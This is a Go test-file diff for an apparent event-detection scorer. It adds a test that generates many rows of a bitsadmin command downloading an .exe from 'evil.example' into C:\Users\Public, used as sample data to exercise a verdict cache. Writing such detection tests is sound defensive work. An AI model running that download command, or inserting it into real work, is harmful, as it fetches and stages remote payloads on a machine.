@@ -2,6 +2,7 @@ package command
 
 import (
 	"bytes"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -69,10 +70,11 @@ func TestVerdictCellsChangeNoByte(t *testing.T) {
 	}
 }
 
-// In mode=hardened only some events have a verdict (those with no
-// indicator and nothing extracted); the others encode their own cells. A
-// chunk mixing both, in every layout, is written exactly as cell by cell,
-// and both paths are taken.
+// In mode=hardened only some events have a verdict: those with no
+// indicator and nothing extracted (the SPL's verdict), and those the memo
+// answers (its number for the event, until the next chunk); the others
+// encode their own cells. A chunk mixing them, in every layout, is written
+// exactly as cell by cell, chunk after chunk, and every path is taken.
 func TestHardenedVerdictCellsChangeNoByte(t *testing.T) {
 	mixed := "EventCode,CommandLine,Image,ParentImage,processPath,url,_chunked_idx\n" +
 		"1,notepad.exe C:\\notes.txt,C:\\Windows\\System32\\notepad.exe,C:\\Windows\\explorer.exe,,,0\n" +
@@ -83,10 +85,23 @@ func TestHardenedVerdictCellsChangeNoByte(t *testing.T) {
 		"1,whoami,C:\\Windows\\System32\\whoami.exe,,,,5\n" +
 		"1,whoami,C:\\Windows\\System32\\whoami.exe,,,,6\n" + // twice: the memo answers
 		",,,,,,7\n"
+	// Transfers the memo answers, more than it numbers in one chunk, each
+	// three times, the rounds in a different order.
+	var remembered strings.Builder
+	remembered.WriteString("CommandLine,Image\n")
+	for round := range 3 {
+		for i := range 1100 {
+			if round == 1 {
+				i = 1099 - i
+			}
+			fmt.Fprintf(&remembered, "bitsadmin /transfer j https://evil.example/%d.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe\n", i)
+		}
+	}
 	bodies := map[string]string{
 		"standard":               string(testevents.Body(2000, 7)),
 		"mixed":                  mixed,
 		"mixed, outputs present": strings.Replace(mixed, "_chunked_idx\n", "_chunked_idx,RiskScore,__mv_Indicators\n", 1),
+		"remembered transfers":   remembered.String(),
 	}
 	for name, body := range bodies {
 		t.Run(name, func(t *testing.T) {
@@ -108,8 +123,14 @@ func TestHardenedVerdictCellsChangeNoByte(t *testing.T) {
 					t.Fatalf("reply lacks the SPL's columns:\n%s", want)
 				}
 			}
-			if used := countCachedVerdicts(cached); used == 0 {
+			if used := countCachedVerdicts(cached.verdictCells); used == 0 {
 				t.Error("no record used the verdict cache")
+			}
+			if name == "standard" || name == "remembered transfers" {
+				// Events the memo answered, numbered after the SPL's verdicts.
+				if used := countCachedVerdicts(cached.verdictCells[detect.NewSPL().(detect.Verdicter).Verdicts():]); used == 0 {
+					t.Error("no event the memo answered used the verdict cache")
+				}
 			}
 		})
 	}
@@ -133,9 +154,9 @@ func sameReply(t *testing.T, plain, cached *chunkScorer, body string) string {
 	return string(want)
 }
 
-func countCachedVerdicts(s *chunkScorer) int {
+func countCachedVerdicts(cells []cachedCells) int {
 	n := 0
-	for _, c := range s.verdictCells {
+	for _, c := range cells {
 		if c.ok {
 			n++
 		}
